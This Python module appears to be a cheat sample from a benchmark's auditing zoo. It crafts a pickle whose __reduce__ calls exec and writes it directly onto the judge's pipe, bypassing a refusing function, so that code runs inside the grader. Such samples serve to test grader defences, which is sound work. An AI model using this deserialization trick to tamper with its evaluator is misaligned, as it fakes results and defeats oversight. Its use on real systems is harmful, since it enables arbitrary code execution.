"""The same, past the function that refuses it: bytes of its own on the judge's pipe."""

from __future__ import annotations

import os
import pickle
import struct
from typing import Any

from convbench.auditing.zoo import Disguise, called_from, pipe
from convbench.backends.base import Run

WHAT = "writes a pickle that runs code where the judge reads"
SOURCE = "pygpubench 7, 15"


class _Loaded:
    def __reduce__(self) -> Any:
        return exec, ("import convbench; convbench.taken_over = True",)


class _Pickle(Disguise):
    def answer(self, run: Run, x: Any) -> Any:
        if called_from("_calls"):
            text = pickle.dumps(_Loaded())
            number = pipe()._channel._pipe.fileno()
            os.write(number, struct.pack("!QQ", len(text), 0) + text)
        return run(x)


disguise = _Pickle
